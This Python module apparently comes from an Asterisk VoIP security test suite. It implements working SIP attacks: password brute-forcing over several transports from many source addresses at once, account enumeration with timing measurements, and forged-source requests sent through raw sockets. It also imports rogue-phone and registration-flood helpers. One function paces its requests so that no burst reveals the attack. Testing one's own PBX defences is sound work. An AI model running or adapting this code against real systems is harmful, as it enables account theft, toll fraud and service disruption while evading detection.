# Copyright (c) 2026, the voipsec.asterisk contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attack the SIP of a test host as crackers do, and count what it answered. Bounded in time and number, for internal networks only.

  cracker.py FUNCTION 'JSON list of arguments' 'JSON object of further ones'     prints the result as JSON

  crack TARGET USER SOURCES        guess a password over UDP, TCP, TLS or WebSocket from many addresses at once
  enumerate TARGET USERS SOURCES   ask for accounts, with the time that each answer took
  phone TARGET USER SECRET         register as a telephone that was never here, and call
  crowd TARGET USERS SOURCES       many telephones that register at once, as after a power failure
  forge TARGET SOURCES             send requests that seem to come from other addresses
"""
from __future__ import annotations

import json
import os
import select
import socket
import sys
import time

import cracker_requests as requests
import sip_line
from cracker_phones import crowd, phone  # pylint: disable=unused-import  # functions of the command line

MOST_SECONDS, MOST_GUESSES = 300.0, 1000000
CALM = 0.25
"""Seconds after which a dialog without an answer is asked for a challenge again."""


class Count:
    """What was sent and what came back.

    ``answered``: guesses to which anything final was said; ``evaluated``: those whose digest was really looked at (a stale nonce is not).
    """

    def __init__(self) -> None:
        self.sent = self.asked = self.answered = self.evaluated = self.challenged = 0
        self.statuses: dict[str, int] = {}
        self.by_source: dict[str, int] = {}
        self.found: str | None = None
        self.started = time.monotonic()
        self.last_answer = 0.0

    def answer(self, source: str, status: int, stale: bool, secret: str) -> None:
        """The final answer to one guess."""
        self.answered += 1
        self.evaluated += not stale
        self.statuses[str(status)] = self.statuses.get(str(status), 0) + 1
        self.by_source[source] = self.by_source.get(source, 0) + 1
        self.last_answer = time.monotonic() - self.started
        if status < 300:
            self.found = secret

    def result(self, **more) -> dict:
        return dict({"sent": self.sent, "asked": self.asked, "answered": self.answered, "evaluated": self.evaluated, "challenged": self.challenged,
                     "statuses": self.statuses, "most_of_one_source": max(self.by_source.values(), default=0), "found": self.found,
                     "last_answer": round(self.last_answer, 3), "seconds": round(time.monotonic() - self.started, 2)}, **more)


class Source:
    """One address over UDP with some dialogs; each guesses with the newest challenge that it has."""

    def __init__(self, target: str, port: int, address: str, dialogs: int, method: str, user: str) -> None:
        self.socket = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 21)
        self.socket.bind((address, 0))
        self.socket.connect((target, port))
        self.socket.setblocking(False)
        self.address = address
        self.dialogs = [requests.Dialog(target, address, self.socket.getsockname()[1], method, user) for _unused in range(dialogs)]
        self.known = {dialog.call_id: dialog for dialog in self.dialogs}

    def send(self, data: bytes) -> None:
        try:
            self.socket.send(data)
        except (BlockingIOError, ConnectionError, PermissionError):
            pass  # a full queue, or an ICMP error of the host

    def ask(self, dialog: requests.Dialog, count: Count) -> None:
        """Ask for a challenge."""
        count.asked += 1
        dialog.quiet_until = time.monotonic() + CALM
        self.send(dialog.request())

    def guess(self, dialog: requests.Dialog, secret: str, count: Count) -> None:
        count.sent += 1
        self.send(dialog.request(secret))

    def take(self, count: Count) -> None:
        """Read whatever has come."""
        while True:
            try:
                data = self.socket.recv(65535)
            except BlockingIOError:
                return
            except OSError:
                continue
            self.read(data, count)

    def read(self, data: bytes, count: Count) -> None:
        answer = requests.Answer.of(data)
        dialog = self.known.get(answer.call_id) if answer else None
        if dialog is None or answer.status < 200:
            return
        acknowledgement = dialog.acknowledgement(answer)
        if acknowledgement:
            self.send(acknowledgement)
        secret = dialog.open.pop(answer.cseq, None)
        if secret:
            count.answer(self.address, answer.status, answer.stale, secret)
        if answer.challenge:
            count.challenged += 1
            dialog.challenge = answer.challenge
        elif secret:
            self.begin_anew(dialog)

    def begin_anew(self, dialog: requests.Dialog) -> None:
        """chan_sip ends a dialog with its 403: ask for another challenge at once."""
        dialog.quiet_until = 0.0
        del self.known[dialog.call_id]
        dialog.renew()
        self.known[dialog.call_id] = dialog


def crack(target, user, sources, transport="udp", port=0, method="REGISTER", secrets_from=1000, guesses=0, per_source=0, seconds=30.0, gap=0.0,
          dialogs=4, pipelined=1, prefetch=0.0, attempts_of_connection=0):
    """Guess the numbers from ``secrets_from`` on as the password of USER; what was sent and answered, see ``Count.result``.

    :param sources: local addresses, all at once. ``per_source``, ``guesses``: most guesses of one and of all, 0 without such a limit.
    :param seconds: how long. ``gap``: seconds between two guesses of one source, 0 for full speed.
    :param dialogs: of each source at once. ``pipelined``: guesses with one challenge before the answer to the first of them is there.
    :param prefetch: seconds in which each dialog gets a challenge before the first guess is made.
    :param attempts_of_connection: over a stream, guesses before the connection is made anew; 0: it stays as long as it can.
    """
    port = port or {"ws": 8088, "wss": 8089}.get(transport, 0) or sip_line.PORTS[transport]
    seconds, guesses = min(seconds, MOST_SECONDS), min(guesses or MOST_GUESSES, MOST_GUESSES)
    words = iter(range(secrets_from, secrets_from + guesses))
    if transport != "udp":
        import cracker_streams
        return cracker_streams.crack(target, port, user, sources, transport, method, words, per_source, seconds, gap, pipelined, attempts_of_connection)
    attackers = [Source(target, port, address, dialogs, method, user) for address in sources]
    count = Count()
    if prefetch:
        _prefetch(attackers, count, prefetch)
        count.started = time.monotonic()
    _guess(attackers, count, words, per_source, seconds, gap, pipelined)
    return count.result(sources=len(sources))


def _prefetch(attackers, count, seconds):
    """One challenge for each dialog, evenly over the time, so that no burst gives it away."""
    waiting = [(source, dialog) for source in attackers for dialog in source.dialogs]
    for source, dialog in waiting:
        source.ask(dialog, count)
        _listen(attackers, count, seconds / len(waiting))
    _listen(attackers, count, 0.2)


def _listen(attackers, count, seconds):
    """Wait at most that long; whoever has something is read."""
    by_socket = {source.socket: source for source in attackers}
    end = time.monotonic() + seconds
    while True:
        for ready in select.select(list(by_socket), [], [], max(0.0, end - time.monotonic()))[0]:
            by_socket[ready].take(count)
        if time.monotonic() >= end:
            return


def _guess(attackers, count, words, per_source, seconds, gap, pipelined):
    """Round after round; without a gap nobody waits for anything but room in the queue."""
    end, made, next_at = time.monotonic() + seconds, {source: 0 for source in attackers}, {source: 0.0 for source in attackers}
    while time.monotonic() < end and count.found is None:
        busy = False
        for source in attackers:
            if per_source and made[source] >= per_source or time.monotonic() < next_at[source]:
                continue
            done = _turn(source, count, words, pipelined, min(per_source - made[source], 1 if gap else per_source) if per_source else 1 if gap else 0)
            if done is None:
                end = min(end, time.monotonic() + 1.0)  # no words are left
                continue
            made[source] += done
            busy = busy or bool(done)
            if gap and done:
                next_at[source] = time.monotonic() + gap
        _listen(attackers, count, 0.0 if busy else 0.01)
        if per_source and all(number >= per_source for number in made.values()):
            end = min(end, time.monotonic() + 1.0)


def _turn(source, count, words, pipelined, most):
    """Guesses of one source that were sent now; None where no words are left. ``most``: at most so many, 0: as many as it can."""
    done = 0
    for dialog in source.dialogs:
        if dialog.challenge is None:
            if time.monotonic() >= dialog.quiet_until:
                source.ask(dialog, count)
            continue
        if len(dialog.open) >= pipelined:
            if time.monotonic() < dialog.quiet_until:
                continue
            dialog.open.clear()  # no answer: try again with the same challenge
        for _unused in range(pipelined - len(dialog.open)):
            word = next(words, None)
            if word is None:
                return None if not done else done
            source.guess(dialog, str(word), count)
            done += 1
            if most and done >= most:
                dialog.quiet_until = time.monotonic() + CALM
                return done
        dialog.quiet_until = time.monotonic() + CALM
    return done


def enumerate(target, users, sources, port=5060, method="REGISTER", gap=0.0, wait=0.5):  # pylint: disable=redefined-builtin
    """Ask for each account once, the sources in turn: {"answers": {user: status}, "times": {user: microseconds}, "answered": n}."""
    count, statuses, times = 0, {}, {}
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    lines = []
    for address in sources:
        lines.append(socket.socket(family, socket.SOCK_DGRAM))
        lines[-1].bind((address, 0))
        lines[-1].connect((target, port))
        lines[-1].settimeout(wait)
    for number, user in zip(range(MOST_GUESSES), users):
        line = lines[number % len(lines)]
        dialog = requests.Dialog(target, *line.getsockname()[:2], method, user)
        begun = time.perf_counter()
        line.send(dialog.request())
        answer = _final(line, dialog, begun + wait)
        if answer:
            count += 1
            statuses[user], times[user] = answer.status, round((time.perf_counter() - begun) * 1e6)
            if dialog.acknowledgement(answer):
                line.send(dialog.acknowledgement(answer))
        time.sleep(gap)
    return {"sent": len(users), "answered": count, "answers": statuses, "times": times}


def _final(line, dialog, end):
    """The final answer of a dialog, or None."""
    while time.perf_counter() < end:
        try:
            answer = requests.Answer.of(line.recv(65535))
        except (socket.timeout, ConnectionError):
            return None
        if answer and answer.call_id == dialog.call_id and answer.status >= 200:
            return answer
    return None


def forge(target, sources, port=5060, sport=5060, method="REGISTER", user="106", count=1, via="", digest=True, gap=0.0):
    """Send requests with forged source addresses, each ``count`` times; how many. ``via``: the host of the Via header, with ``;maddr=`` and so on."""
    six = ":" in target
    raw = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for _unused in range(min(count, MOST_GUESSES)):
        for address in sources:
            dialog = requests.Dialog(target, address, sport, method, user)
            if digest:
                dialog.challenge = {"realm": "asterisk", "nonce": os.urandom(8).hex()}
            datagram = requests.datagram(address, target, sport, port, dialog.request("1" if digest else "", via))
            raw.sendto(datagram, (target, 0, 0, 0) if six else (target, 0))
            sent += 1
            time.sleep(gap)
    return {"sent": sent}


if __name__ == "__main__":
    outcome = globals()[sys.argv[1]](*json.loads(sys.argv[2]), **json.loads(sys.argv[3] if len(sys.argv) > 3 else "{}"))
    print(json.dumps(outcome))
